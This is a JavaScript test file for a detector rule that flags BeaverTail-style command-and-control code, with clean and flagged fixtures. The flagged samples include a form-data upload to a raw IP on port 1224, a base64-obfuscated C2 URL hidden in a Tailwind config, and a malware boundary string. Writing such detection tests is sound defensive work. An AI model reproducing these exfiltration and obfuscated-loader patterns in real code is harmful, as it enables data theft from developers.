import { ruleTest } from '../../testing/rule-tester.js';
import rule from './c2-endpoint.js';

ruleTest(rule, {
  clean: [
    {
      name: 'course project on localhost:1245 with /uploads',
      file: 'server/index.js',
      code: `const express = require('express');
const app = express();
app.use('/uploads', express.static('uploads'));
app.listen(1245, () => console.log('http://localhost:1245/uploads'));
fetch('http://127.0.0.1:1224/client/42');
`,
    },
    {
      name: 'analytics posting to its API by hostname',
      file: 'src/analytics.ts',
      code: `export const track = (e: string) => fetch('https://api.segment.io/v1/track', { method: 'POST', body: JSON.stringify({ e }) });\n`,
    },
    {
      name: 'private LAN device and documentation IPs',
      file: 'src/config.js',
      code: `module.exports = { printer: 'http://192.168.1.20:631/', docs: 'http://203.0.113.5:1224/keys', dns: '8.8.8.8' };\n`,
    },
  ],
  flagged: [
    {
      name: 'BeaverTail upload to raw IP on port 1224',
      file: 'lib/up.js',
      code: `const request = require('request');
const host = 'http://95.164.17.24:1224';
request.post({ url: host + '/uploads', formData: { 'multi_file': [] } });
`,
      findings: [
        { line: 2, severity: 'critical', confidence: 'high', evidence: "'http://95.164.17.24:1224'" },
        { line: 3, severity: 'critical', confidence: 'high', evidence: /multi_file|host \+ '\/uploads'/ },
        { line: 3, severity: 'high' },
      ],
    },
    {
      name: 'base64 C2 with junk prefix (decoded)',
      file: 'tailwind.config.js',
      code: `const n = (I) => Buffer.from(I.slice(1), 'base64').toString();\nconst u = n('saHR0cDovLzg2LjEwNC43NC41MToxMjQ0L3Bkb3du');\n`,
      findings: [{ line: 2, severity: 'critical', decoded: 'http://86.104.74.51:1244/pdown' }],
    },
    {
      name: 'family boundary string',
      file: 'x.js',
      code: `const boundary = '---------------------------99614912995';\n`,
      findings: [{ line: 1, severity: 'critical', confidence: 'high' }],
    },
    {
      name: 'raw IP alone (low)',
      file: 'cfg.js',
      code: `module.exports = { api: 'http://45.61.128.10/api' };\n`,
      findings: [{ line: 1, severity: 'low' }],
    },
  ],
});
